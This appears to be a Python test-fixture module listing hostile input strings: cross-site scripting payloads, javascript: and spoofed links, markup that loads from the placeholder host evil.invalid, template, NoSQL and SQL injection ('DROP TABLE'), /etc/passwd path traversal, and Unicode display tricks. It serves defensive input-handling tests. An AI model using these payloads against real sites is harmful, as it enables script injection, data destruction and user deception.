"""Texts that want to be more than text: for names, messages, tags and cards.

Whatever runs of them sets `window.__pwned`, opens a dialog, or asks `evil.invalid` for something.
"""

from __future__ import annotations

_RUN = "window.__pwned=1"
_FETCH = "https://evil.invalid/x"

MARKUP: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="{_FETCH}"></iframe>',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f'<a href="javascript:{_RUN}">click</a>',
    f'<math><mtext></mtext><mglyph><style><img src=x onerror="{_RUN}">',
    f'<style>@import "{_FETCH}";</style>',
    f'<link rel=stylesheet href="{_FETCH}">',
    f'<img src="{_FETCH}">',
    f'<meta http-equiv=refresh content="0;url={_FETCH}">',
    f'<form action="{_FETCH}"><button autofocus>x</button></form>',
    "<!--<b>",
    "</textarea></title></style>",
    "&lt;b&gt;&amp;&#60;script&#62;&#x3c;",
)

LINKS: tuple[str, ...] = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://example.org",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "https://example.org/\u202egnp.exe",
    'https://example.org/"onmouseover="window.__pwned=1',
    "https://user:password@example.org@evil.invalid/",
    "https://ехаmple.org",
)

TEMPLATES: tuple[str, ...] = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "`${window.__pwned=1}`",
    "';window.__pwned=1;//",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "__proto__",
    "constructor",
    "{'$gt': ''}",
    '{"$where": "sleep(1000)"}',
    "'; DROP TABLE user_account; --",
    "../../../../etc/passwd",
    "%s%n%x {0} {name}",
    "null",
    "undefined",
    "NaN",
    "**bold** [x](javascript:window.__pwned=1) ![x](https://evil.invalid/x)",
)

LOOKS: tuple[str, ...] = (
    "\u202eright to left\u202c",
    "\u2066\u2067\u2068isolates left open",
    "Z" + "".join(chr(0x300 + i % 0x70) for i in range(400)) + "algo",
    "\u200b\u200c\u200d\ufeffhidden\u2060",
    "null\x00byte and \x07bell\x1b[31m",
    "👩‍👩‍👧‍👦" * 20,
    "﷽" * 30,
    "ﷺ𒐫⸻꧅",
    "line\u2028separator\u2029here",
    "tab\tand\nnew line",
    "w" * 1000,
)

SCRIPTS: tuple[str, ...] = (
    "é" * 300,
    "Ж" * 300,
    "ש" * 300,
    "م" * 300,
    "語" * 300,
    "한" * 300,
    "ก" * 300,
    "अ" * 300,
    "🎧" * 300,
    "A" * 300,
)

HOSTILE: tuple[str, ...] = MARKUP + LINKS + TEMPLATES + LOOKS + SCRIPTS
"""All of them."""
